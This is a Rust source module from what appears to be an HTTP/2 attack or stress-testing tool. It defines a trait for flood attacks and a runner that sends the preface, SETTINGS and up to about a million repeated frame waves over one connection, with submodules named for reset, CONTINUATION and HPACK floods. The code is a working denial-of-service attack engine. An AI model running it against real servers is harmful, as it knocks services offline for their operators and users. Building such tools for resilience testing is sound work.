//! Attacks over HTTP/2, by prior knowledge. Most are floods: the same few frames again and again, until the other side
//! has had enough. What a flood says is a small struct with [`Flood`]; [`Flooding`] says it.

use std::fmt::Debug;
use std::io;

use futures_util::future::LocalBoxFuture;

use super::{Attack, Ears, End, Line, Target};
use crate::frames::{END_HEADERS, END_STREAM, Frame, PREFACE, hpack::Block};

pub mod continuation;
pub mod control;
pub mod hpack;
pub mod opening;
pub mod reset;
pub mod stream;

/// What a flood says.
pub trait Flood: Debug + Send + Sync {
    /// Its name in tables.
    fn name(&self) -> &'static str;

    /// The settings it begins with.
    fn settings(&self) -> Vec<(u16, u32)> {
        Vec::new()
    }

    /// What it says once, behind the settings.
    fn opening(&self, _host: &str) -> Vec<Frame> {
        Vec::new()
    }

    /// What it says the `n`-th time. Never empty.
    fn wave(&self, n: u32, host: &str) -> Vec<Frame>;

    /// How often it says that on one connection, at most.
    fn waves(&self) -> u32 {
        1 << 20
    }
}

/// A flood over one connection: as fast as it goes.
#[derive(Debug)]
pub struct Flooding<F>(pub F, pub Ears);

impl<F: Flood> Attack for Flooding<F> {
    fn name(&self) -> &'static str {
        self.0.name()
    }

    fn run<'a>(
        &'a self,
        line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(self.flood(line, &target.host))
    }
}

impl<F: Flood> Flooding<F> {
    async fn flood(&self, line: Line<'_>, host: &str) -> io::Result<End> {
        const AT_ONCE_BYTES: usize = 4096;
        let Self(what, ears) = self;
        let mut line = line.hearing_http2();
        let mut bytes = hello(&what.settings());
        bytes.extend(written(&what.opening(host)));
        let mut frames = 0;
        for n in 0..what.waves() {
            let wave = what.wave(n, host);
            frames += wave.len() as u64;
            bytes.extend(written(&wave));
            if bytes.len() >= AT_ONCE_BYTES {
                line.shout(&bytes, *ears).await?;
                line.seen.count(std::mem::take(&mut frames));
                bytes.clear();
            }
        }
        line.shout(&bytes, *ears).await?;
        line.seen.count(frames);
        line.read_until_end().await
    }
}

/// The preface and SETTINGS.
fn hello(settings: &[(u16, u32)]) -> Vec<u8> {
    [&PREFACE[..], &Frame::settings(settings).bytes()].concat()
}

/// Frames as they go over the wire, one behind the other.
fn written(frames: &[Frame]) -> Vec<u8> {
    frames.iter().flat_map(Frame::bytes).collect()
}

/// The stream of the `n`-th request of a connection.
const fn stream_id(n: u32) -> u32 {
    2 * n + 1
}

/// A complete `GET`.
fn get(n: u32, host: &str, path: &str) -> Frame {
    Frame::headers(
        stream_id(n),
        END_HEADERS | END_STREAM,
        Block::get(host, path),
    )
}

/// The head of a `POST` whose body is to come.
fn post(n: u32, host: &str) -> Frame {
    Frame::headers(
        stream_id(n),
        END_HEADERS,
        Block::request("POST", host, "/count"),
    )
}
